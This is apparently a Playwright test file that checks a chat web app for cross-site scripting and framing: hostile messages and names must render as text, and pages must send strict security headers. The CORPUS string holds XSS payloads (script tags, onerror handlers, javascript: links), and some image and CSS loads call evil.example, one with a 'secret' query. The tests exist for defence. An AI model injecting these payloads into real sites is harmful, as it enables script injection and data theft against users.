"""What a hostile text can do in a real browser: nothing."""

from collections.abc import Callable

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import send, settled
from tests.load.stack import Stack

pytestmark = [pytest.mark.browser, pytest.mark.security]

CORPUS = """<script>window.__xss=1</script> <img src=x onerror="window.__xss=2"> <svg onload="window.__xss=3">
[a](javascript:window.__xss=4) <javascript:window.__xss=5> [b][r] ![i](https://evil.example/?q=secret)
![d](data:text/html,<script>window.__xss=6</script>) <a href="jav&#x09;ascript:window.__xss=7">c</a>
`<script>window.__xss=8</script>` $\\text{<img src=x onerror=window.__xss=9>}$
<iframe srcdoc="<script>parent.__xss=10</script>">

[r]: javascript:window.__xss=11

| <img src=x onerror=window.__xss=12> | b |
|---|---|
| <style>@import url(https://evil.example/x.css)</style> | <div style="background:url(https://evil.example/y)"> |

```html" onmouseover="window.__xss=13
<script>window.__xss=14</script>
```"""


def test_the_trap_for_hostile_scripts_closes(tab: Page, faults: list[str]) -> None:
    with tab.expect_console_message(lambda message: "hostile" in message.text):
        tab.evaluate("() => { window.__xss = 1 }")
    assert faults == ["console: a hostile script ran: 1"]
    faults.clear()


def test_case_63_and_64_hostile_text_runs_nothing_and_loads_nothing(tab: Page) -> None:
    """As a person's text and as a model's reply; the fixture refuses every request to another origin."""
    send(tab, f"[[echo]] {CORPUS}")
    settled(tab)
    for link in tab.locator("article .parts a").all():
        href = link.get_attribute("href") or ""
        assert href.split(":")[0] in {"http", "https", "mailto", ""}, href
    assert tab.locator("article script, article iframe, article img, article svg[onload], article style").count() == 0
    for block in tab.locator("article .code").all():
        block.hover()
    tab.reload()
    expect(tab.locator("article.from-model")).to_have_count(1)


def test_hostile_stream_events_are_text_or_nothing(tab: Page) -> None:
    """Case 66."""
    send(tab, "[[hostile]]")
    settled(tab)
    tab.reload()
    settled(tab)


def test_hostile_names_words_and_quotes_are_text_on_every_page(tab: Page) -> None:
    """Case 63, for what people name and look for."""
    name = '"><img src=x onerror=window.__xss=1><b>bold'
    send(tab, f"[[echo]] {name} marker")
    settled(tab)
    address = tab.url
    for path, button in (("bookmarks/new", "Create bookmark"), ("projects/new", "Create project")):
        tab.goto(f"/{path}")
        for field in tab.locator("main input[type=text], main textarea").all():
            field.fill(name)
        tab.get_by_role("button", name=button).click()
        expect(tab.locator("main, #sheet").first).to_contain_text("onerror")
    tab.goto(address)
    tab.locator("#bookmark-button").click()
    expect(tab.get_by_role("dialog")).to_contain_text("onerror")
    tab.keyboard.press("Escape")
    tab.get_by_role("link", name="Edit message").first.click()
    expect(tab.locator(".editor textarea")).to_have_value(f"[[echo]] {name} marker")
    for path in (
        "search?q=marker",
        "search?q=%22%3E%3Cimg",
        "archive",
        "projects",
        "bookmarks",
        f"{address[-36:]}/map",
    ):
        tab.goto(f"/c/{path}" if path.endswith("/map") else f"/{path}")
    tab.goto(f"/c/new?prompt={name}&model={name}&projectId={name}")
    expect(tab.locator("#text")).to_have_value(name)
    assert tab.locator("main img, nav img, dialog img").count() == 0


def test_a_hostile_title_and_name_are_text(tab: Page) -> None:
    send(tab, '[[tokens:2]] "><img src=x onerror=window.__xss=1>')
    settled(tab)
    tab.reload()
    expect(tab.locator("#history-rows")).to_contain_text("onerror")
    assert tab.locator("nav img").count() == 0


@pytest.mark.parametrize("path", ["/login", "/register", "/c/new", "/nothing-here"])
def test_case_67_pages_refuse_framing_and_carry_their_policies(open_tab: Callable[..., Page], path: str) -> None:
    page = open_tab("/health", signed_in=path == "/c/new")
    answer = page.goto(path)
    assert answer is not None
    headers = answer.headers
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert "unsafe" not in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["cross-origin-opener-policy"] == "same-origin"
    assert headers["referrer-policy"] == "same-origin"


def test_case_67_another_site_cannot_frame_a_page(browser: Browser, stack: Stack) -> None:
    page = browser.new_page()
    site = f'<iframe src="{stack.base}/login"></iframe>'
    page.route("http://elsewhere.example/", lambda route: route.fulfill(content_type="text/html", body=site))
    page.goto("http://elsewhere.example/")
    assert page.frames[1].url.startswith("chrome-error:")
    page.close()
